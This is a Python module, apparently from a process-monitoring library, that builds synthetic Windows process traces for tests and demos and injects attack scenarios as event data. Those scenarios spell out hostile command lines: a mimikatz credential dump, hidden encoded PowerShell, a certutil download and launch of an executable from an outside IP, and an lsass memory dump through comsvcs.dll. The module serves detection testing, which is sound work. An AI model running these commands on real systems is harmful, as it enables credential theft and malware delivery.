"""Synthetic process traces: small realistic scenarios for notebooks, demos and tests.

>>> events = quickstart_scenario()
>>> [e.operation for e in events][:3]
['create', 'create', 'create']
"""
from __future__ import annotations

from ntoslab.filetime import ns_to_filetime
from ntoslab.hooks.process import ProcessEvent

START_NS = 1_764_064_800 * 10**9  # 2025-11-25 10:00:00 UTC
USER_SID = "S-1-5-21-3623811015-3361044348-30300820-1013"


def _ft(ns: int) -> int:
    return ns_to_filetime(ns)


def quickstart_scenario(start_ns: int = START_NS, host: str = "WS-042") -> list[ProcessEvent]:
    """A user's shell spawning tools: explorer → cmd → whoami/ipconfig/powershell; an encoded
    PowerShell command and a credential dumper that a deny policy should stop; then exits."""
    user = dict(token_sid=USER_SID, account_name="alice", account_domain="CONTOSO", host=host)
    system = dict(token_sid="S-1-5-18", host=host)
    sys32 = r"\??\C:\Windows\System32"
    plan = [
        # (seconds, pid, parent, creator thread, image, command line, identity)
        (0.0, 4120, 700, 704, rf"{sys32}\userinit.exe", "userinit.exe", system),
        (0.4, 4188, 4120, 4124, r"\??\C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", user),
        (12.0, 5200, 4188, 4190, rf"{sys32}\cmd.exe", r'"C:\Windows\system32\cmd.exe"', user),
        (14.5, 5232, 5200, 5204, rf"{sys32}\whoami.exe", "whoami /all", user),
        (16.0, 5240, 5200, 5204, rf"{sys32}\ipconfig.exe", "ipconfig /all", user),
        (20.0, 5300, 5200, 5204, rf"{sys32}\WindowsPowerShell\v1.0\powershell.exe",
         "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", user),
        (22.0, 5310, 5200, 5204, r"\??\C:\Users\alice\Downloads\mimikatz.exe",
         'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', user),
        (25.0, 5320, 5200, 5204, rf"{sys32}\notepad.exe", r"notepad.exe C:\Users\alice\notes.txt", user),
    ]
    events = []
    for sec, pid, parent, thread, image, cmd, ident in plan:
        t = start_ns + int(sec * 1e9)
        events.append(ProcessEvent.create(pid, parent, image, cmd, creator=parent,
                                          creator_thread=thread, time=t, creation_time=_ft(t),
                                          **ident))
    exits = [(15.0, 5232, 0), (17.0, 5240, 0), (40.0, 5320, 0), (41.0, 5200, 0)]
    created = {e.process_id: e for e in events}
    for sec, pid, code in exits:
        t = start_ns + int(sec * 1e9)
        events.append(ProcessEvent.delete(pid, exit_code=code, time=t,
                                          creation_time=created[pid].creation_time,
                                          exit_time=_ft(t), host=host))
    events.sort(key=lambda e: e.time)
    return events


# ---------------------------------------------------------------------------------------------
# A seeded generator of realistic Windows sessions, at any size
# ---------------------------------------------------------------------------------------------

_S32 = r"C:\Windows\System32"
# image -> (command line, lifetime seconds (None: runs to the end), children it may start)
_CATALOGUE: dict[str, tuple[str, float | None, tuple[str, ...]]] = {
    rf"{_S32}\smss.exe": (r"\SystemRoot\System32\smss.exe", None, ()),
    rf"{_S32}\csrss.exe": ("%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows", None, ()),
    rf"{_S32}\wininit.exe": ("wininit.exe", None, ()),
    rf"{_S32}\services.exe": (rf"{_S32}\services.exe", None, (rf"{_S32}\svchost.exe",)),
    rf"{_S32}\lsass.exe": (rf"{_S32}\lsass.exe", None, ()),
    rf"{_S32}\svchost.exe": (rf"{_S32}\svchost.exe -k netsvcs -p", None,
                             (rf"{_S32}\taskhostw.exe", rf"{_S32}\wbem\WmiPrvSE.exe",
                              rf"{_S32}\SearchProtocolHost.exe", rf"{_S32}\conhost.exe")),
    rf"{_S32}\winlogon.exe": ("winlogon.exe", None, ()),
    rf"{_S32}\userinit.exe": (rf"{_S32}\userinit.exe", 5.0, ()),
    r"C:\Windows\explorer.exe": (r"C:\Windows\Explorer.EXE", None,
                                 (rf"{_S32}\cmd.exe", rf"{_S32}\notepad.exe",
                                  r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                                  r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                                  rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe")),
    rf"{_S32}\cmd.exe": ('"C:\\Windows\\system32\\cmd.exe"', 300.0,
                         (rf"{_S32}\PING.EXE", rf"{_S32}\whoami.exe", rf"{_S32}\ipconfig.exe",
                          rf"{_S32}\net.exe", rf"{_S32}\conhost.exe")),
    rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe": ("powershell.exe -NoProfile", 200.0,
                                                        (rf"{_S32}\conhost.exe", rf"{_S32}\whoami.exe")),
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE":
        ('"WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"', 900.0, ()),
    r"C:\Program Files\Google\Chrome\Application\chrome.exe":
        ('"chrome.exe"', 1200.0, ()),
    rf"{_S32}\notepad.exe": ("notepad.exe", 600.0, ()),
    rf"{_S32}\taskhostw.exe": ("taskhostw.exe", 30.0, ()),
    rf"{_S32}\wbem\WmiPrvSE.exe": (rf"{_S32}\wbem\wmiprvse.exe -Embedding", 60.0, ()),
    rf"{_S32}\SearchProtocolHost.exe": ("SearchProtocolHost.exe Global\\UsGthrFltPipe", 20.0, ()),
    rf"{_S32}\conhost.exe": (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", 10.0, ()),
    rf"{_S32}\PING.EXE": ("ping -n 3 127.0.0.1", 3.0, ()),
    rf"{_S32}\whoami.exe": ("whoami /all", 0.5, ()),
    rf"{_S32}\ipconfig.exe": ("ipconfig /all", 0.5, ()),
    rf"{_S32}\net.exe": ("net user", 0.8, ()),
}
# how often each kind of live process starts something, relative to a svchost
_WEIGHTS = {"explorer.exe": 8.0, "cmd.exe": 5.0, "powershell.exe": 3.0, "services.exe": 0.5}
# scenario -> chain of (parent image or None for "a live explorer", image, command line, life)
ATTACKS: dict[str, list[tuple[str, str, float]]] = {
    "office_macro": [
        (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
         '"WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.doc"', 60.0),
        (rf"{_S32}\wscript.exe", r'wscript.exe "C:\Users\alice\AppData\Local\Temp\a.vbs"', 5.0),
        (rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe",
         "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", 20.0),
    ],
    "lolbin_download": [
        (rf"{_S32}\cmd.exe", '"C:\\Windows\\system32\\cmd.exe"', 30.0),
        (rf"{_S32}\certutil.exe",
         r"certutil.exe -urlcache -split -f http://203.0.113.7/p.txt C:\Users\Public\p.exe", 2.0),
        (r"C:\Users\Public\p.exe", r"C:\Users\Public\p.exe", 15.0),
    ],
    "credential_dump": [
        (rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe", 30.0),
        (rf"{_S32}\rundll32.exe",
         r"rundll32.exe C:\windows\System32\comsvcs.dll MiniDump {lsass} C:\Temp\l.dmp full", 3.0),
    ],
}


def generate_session(n_events: int = 10_000, seed: int = 0, host: str = "WS-001",
                     start_ns: int = START_NS, attacks: tuple[str, ...] = tuple(ATTACKS),
                     rate_per_s: float = 2.0):
    """A synthetic Windows session in the trace schema (a DataFrame, `source = "synthetic"`):
    boot (smss, csrss, wininit → services → svchost…, lsass; winlogon → userinit → explorer),
    then a user's activity (shells, Office, browsers, ping/whoami… with exits and PID reuse:
    freed PIDs, multiples of 4, are handed out again), with each scenario of `attacks`
    (`ATTACKS`: office_macro, lolbin_download, credential_dump) injected once at a random time.
    Seeded and reproducible; about `n_events` rows (boot and attacks may add a few)."""
    import heapq
    import random

    import pandas as pd

    from .schema import COLUMNS, as_schema
    rng = random.Random(seed)
    user = ("S-1-5-21-3623811015-3361044348-30300820-1013", "alice", "CONTOSO")
    system = ("S-1-5-18", "SYSTEM", "NT AUTHORITY")
    free = list(range(8000, 3, -4))       # pop() hands out low pids first
    rng.shuffle(free)
    cols: dict[str, list] = {c: [] for c in COLUMNS}
    live: dict[str, dict] = {}             # key -> process
    spawners: list[str] = []
    exits: list[tuple[int, int, str]] = []  # (time, seq, key)
    seq = 0
    t = start_ns

    def emit(row: dict) -> None:
        for c in COLUMNS:
            cols[c].append(row.get(c))

    def create(parent: dict | None, image: str, cmd: str | None, life: float | None,
               ident=user) -> dict:
        nonlocal seq
        pid = free.pop() if free else 4 * (len(cols["time"]) + 5000)
        ft = ns_to_filetime(t)
        key = f"{host}:{pid}:{ft}"
        cat = _CATALOGUE.get(image, (image, 10.0, ()))
        proc = {"pid": pid, "key": key, "image": image, "ft": ft,
                "ppid": parent["pid"] if parent else 0, "pkey": parent["key"] if parent else None}
        emit({"time": t, "operation": "create", "process_id": pid,
              "parent_process_id": proc["ppid"], "creating_process_id": proc["ppid"],
              "creating_thread_id": rng.randrange(4, 20000, 4) if parent else 0,
              "creation_time": ft, "image_path": image, "command_line": cmd or cat[0],
              "token_sid": ident[0], "account_name": ident[1], "account_domain": ident[2],
              "host": host, "source": "synthetic", "process_key": key,
              "parent_key": proc["pkey"]})
        live[key] = proc
        lifetime = cat[1] if life is None and image in _CATALOGUE else life
        if lifetime is not None:
            seq += 1
            heapq.heappush(exits, (t + int(rng.expovariate(1 / lifetime) * 1e9) + 1, seq, key))
        if cat[2]:
            spawners.append(key)
        return proc

    def finish(key: str) -> None:
        proc = live.pop(key)
        emit({"time": t, "operation": "delete", "process_id": proc["pid"],
              "parent_process_id": proc["ppid"], "creation_time": proc["ft"],
              "exit_time": ns_to_filetime(t),
              "exit_code": 0 if rng.random() < 0.9 else rng.choice([1, 0xC000013A, 0xFFFFFFFF]),
              "image_path": proc["image"], "host": host, "source": "synthetic",
              "process_key": key, "parent_key": proc["pkey"]})
        # freed pids come back soon, as on Windows: a few dozen creations later
        free.insert(max(0, len(free) - rng.randrange(1, 64)), proc["pid"])
        if key in spawners:
            spawners.remove(key)

    # boot
    kernel = {"pid": 4, "key": None, "ppid": 0}   # System: not in the trace, so no parent_key
    smss = create(kernel, rf"{_S32}\smss.exe", None, None, system)
    for image in ("csrss.exe", "wininit.exe", "winlogon.exe"):
        t += 50_000_000
        proc = create(smss, rf"{_S32}\{image}", None, None, system)
        if image == "wininit.exe":
            services = create(proc, rf"{_S32}\services.exe", None, None, system)
            lsass = create(proc, rf"{_S32}\lsass.exe", None, None, system)
            for _ in range(6):
                t += 20_000_000
                create(services, rf"{_S32}\svchost.exe", None, None, system)
        if image == "winlogon.exe":
            t += 2_000_000_000
            init = create(proc, rf"{_S32}\userinit.exe", None, None)
            t += 300_000_000
            create(init, r"C:\Windows\explorer.exe", None, None)
    pending = sorted(rng.randrange(n_events // 10, max(n_events, 20)) for _ in attacks)
    todo = list(zip(pending, attacks))
    while len(cols["time"]) < n_events:
        t += int(rng.expovariate(rate_per_s) * 1e9) + 1
        while exits and exits[0][0] <= t:
            when, _, key = heapq.heappop(exits)
            if key in live:
                saved, t = t, when
                finish(key)
                t = saved
        if todo and len(cols["time"]) >= todo[0][0]:
            _, name = todo.pop(0)
            explorers = [k for k in spawners if live[k]["image"].endswith("explorer.exe")]
            parent = live[explorers[0]] if explorers else None
            for image, cmd, life in ATTACKS[name]:
                t += int(rng.uniform(0.2, 3.0) * 1e9)
                parent = create(parent, image, cmd.replace("{lsass}", str(lsass["pid"])), life)
            continue
        weights = [_WEIGHTS.get(live[k]["image"].rsplit("\\", 1)[-1].lower(), 1.0)
                   for k in spawners]
        parent = live[rng.choices(spawners, weights)[0]]
        image = rng.choice(_CATALOGUE[parent["image"]][2])
        create(parent, image, None, None)
    frame = pd.DataFrame(cols, columns=COLUMNS, dtype=object)
    return as_schema(frame).sort_values("time", kind="stable").reset_index(drop=True)
